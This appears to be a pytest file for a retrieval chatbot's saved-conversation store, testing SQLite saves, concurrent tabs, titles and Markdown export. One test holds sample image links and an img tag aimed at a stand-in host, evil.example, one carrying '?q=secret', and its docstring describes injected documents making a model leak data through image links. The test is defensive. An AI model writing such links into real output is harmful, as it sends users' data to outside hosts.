@@ -1,0 +1,130 @@
+"""Kept conversations: the SQLite store beside the index, two tabs saving at once, and the Markdown export."""
+
+from __future__ import annotations
+
+import threading
+from pathlib import Path
+
+from markdown_it import MarkdownIt
+
+from rag.conversations import Conversation, ConversationStore, file_name, title_for, to_markdown
+
+
+def _turn(question: str, answer: str, *, source: str = "atlas.pdf", page: int | None = 2) -> list[dict]:
+    citation = {"n": 1, "source": source, "page": page, "text": f"Passage about {question}", "support": "",
+                "cited": True}
+    return [
+        {"role": "user", "kind": "question", "content": question},
+        {"role": "assistant", "kind": "answer", "content": answer, "stopped": False, "id": 2,
+         "answer": {"answer": answer, "refused": False, "citations": [citation]}},
+    ]
+
+
+def test_a_conversation_is_saved_reopened_renamed_and_deleted(tmp_path: Path) -> None:
+    store = ConversationStore(tmp_path / "conversations.sqlite")
+    chat = store.open(None)
+    assert chat.id is None and not store.keep(chat), "an empty conversation is not stored"
+    chat.messages += _turn("What is the capital of Freedonia?", "Fredville [1].")
+    assert store.keep(chat) and chat.id and chat.revision == 1
+    assert not store.keep(chat), "nothing changed, nothing written"
+
+    again = ConversationStore(tmp_path / "conversations.sqlite").open(chat.id)  # another process, after a reload
+    assert again.messages == chat.messages and again.title == "What is the capital of Freedonia?"
+    again.messages += _turn("And its river?", "The Fred [1].")
+    assert store.keep(again) and again.revision == 2
+    [info] = store.list()
+    assert (info.id, info.questions) == (chat.id, 2)
+
+    assert store.rename(chat.id, "  Freedonia   facts ") and store.open(chat.id).title == "Freedonia facts"
+    assert not store.rename(chat.id, "   "), "an empty name is refused"
+    assert store.delete(chat.id) and store.list() == [] and store.open(chat.id).id is None
+    assert not store.delete(chat.id)
+
+
+def test_two_tabs_saving_the_same_conversation_lose_nothing(tmp_path: Path) -> None:
+    store = ConversationStore(tmp_path / "conversations.sqlite")
+    first = store.open(None)
+    first.messages += _turn("Where is the harbour?", "North [1].")
+    store.keep(first)
+    tab_a, tab_b = store.open(first.id), store.open(first.id)
+    tab_a.messages += _turn("How deep is it?", "Twelve metres [1].")
+    tab_b.messages += _turn("Who built it?", "The millers [1].")
+    assert store.keep(tab_a) and store.keep(tab_b)
+    assert tab_b.id != first.id and tab_b.title == "Where is the harbour? (copy)", "the later save became a copy"
+    kept = {c.id: store.open(c.id).messages[-2]["content"] for c in store.list()}
+    assert kept == {first.id: "How deep is it?", tab_b.id: "Who built it?"}
+
+
+def test_a_conversation_that_began_with_an_upload_is_named_after_its_first_question(tmp_path: Path) -> None:
+    store = ConversationStore(tmp_path / "conversations.sqlite")
+    chat = store.open(None)
+    chat.messages.append({"role": "assistant", "kind": "upload", "content": "Documents: 1 added"})
+    assert store.keep(chat) and store.list()[0].title == "New conversation"
+    chat.messages += _turn("Where is the ferry?", "At the pier.")
+    store.keep(chat)
+    assert store.list()[0].title == chat.title == "Where is the ferry?"
+
+
+def test_a_conversation_deleted_in_another_tab_is_saved_anew(tmp_path: Path) -> None:
+    store = ConversationStore(tmp_path / "conversations.sqlite")
+    chat = store.open(None)
+    chat.messages += _turn("Q1", "A1")
+    store.keep(chat)
+    old_id = chat.id
+    store.delete(old_id)
+    chat.messages += _turn("Q2", "A2")
+    assert store.keep(chat) and chat.id != old_id and [c.questions for c in store.list()] == [2]
+
+
+def test_saves_from_many_threads_are_all_kept(tmp_path: Path) -> None:
+    """Streamlit runs each browser tab in its own thread; every save must land, none half-written."""
+    store = ConversationStore(tmp_path / "conversations.sqlite")
+
+    def save(i: int) -> None:
+        chat = Conversation(messages=_turn(f"Question {i}", f"Answer {i}"))
+        store.keep(chat)
+
+    threads = [threading.Thread(target=save, args=(i,)) for i in range(12)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert sorted(c.title for c in store.list()) == sorted(f"Question {i}" for i in range(12))
+
+
+def test_titles_are_short_and_cut_at_a_word() -> None:
+    long = "What did the committee decide about the northern harbour extension and the budget for next year?"
+    title = title_for([{"kind": "question", "content": long}])
+    assert len(title) <= 60 and title.endswith("…") and long.startswith(title[:-1])
+    assert title_for([]) == "New conversation"
+    assert file_name("What is 2/3 of <x>?") == "What is 23 of x.md"
+
+
+def test_markdown_export_fetches_nothing_when_opened_elsewhere() -> None:
+    """A document can make a model write an image link that leaks to another host; the export keeps it inert."""
+    chat = Conversation(id="x", title="![t](http://evil.example/t)", messages=[
+        {"role": "user", "kind": "question", "content": "<img src=http://evil.example/q>"},
+        {"role": "assistant", "kind": "answer", "content": "See ![x](http://evil.example/?q=secret) [1].",
+         "answer": {"citations": [{"n": 1, "source": "a.md", "page": None, "text": "[y](http://evil.example/p)"}]}},
+    ])
+    text = to_markdown(chat)
+    html = MarkdownIt("commonmark").render(text)  # as a Markdown viewer shows the file (markdown-it: via rich)
+    assert "<img" not in html and "<a " not in html and "evil.example" in html, html
+    assert "See [image: x] [1]." in text
+
+
+def test_markdown_export_has_questions_answers_and_sources() -> None:
+    chat = Conversation(id="x", title="Freedonia", created_at="2025-01-02T03:04:05.000000+00:00", messages=[
+        {"role": "assistant", "kind": "upload", "content": ":material/attach_file: **Documents: 1 added**"},
+        *_turn("What is the capital of Freedonia?", "Fredville [1]."),
+        {"role": "assistant", "kind": "answer", "content": "", "stopped": False,
+         "answer": {"refused": True, "citations": [{"n": 1, "source": "notes.txt", "page": None,
+                                                      "text": "The ferry\nleaves at seven."}]}},
+    ])
+    text = to_markdown(chat)
+    assert text.startswith("# Freedonia\n")
+    assert "**Documents: 1 added**" in text and ":material/" not in text
+    assert "## Question\n\nWhat is the capital of Freedonia?\n\n### Answer\n\nFredville [1]." in text
+    assert "\\[1\\] **atlas.pdf, page 2**\n\n> Passage about What is the capital of Freedonia?" in text
+    assert "*Not found in your documents.*" in text and "#### Closest passages" in text
+    assert "> The ferry leaves at seven." in text and "notes.txt**" in text
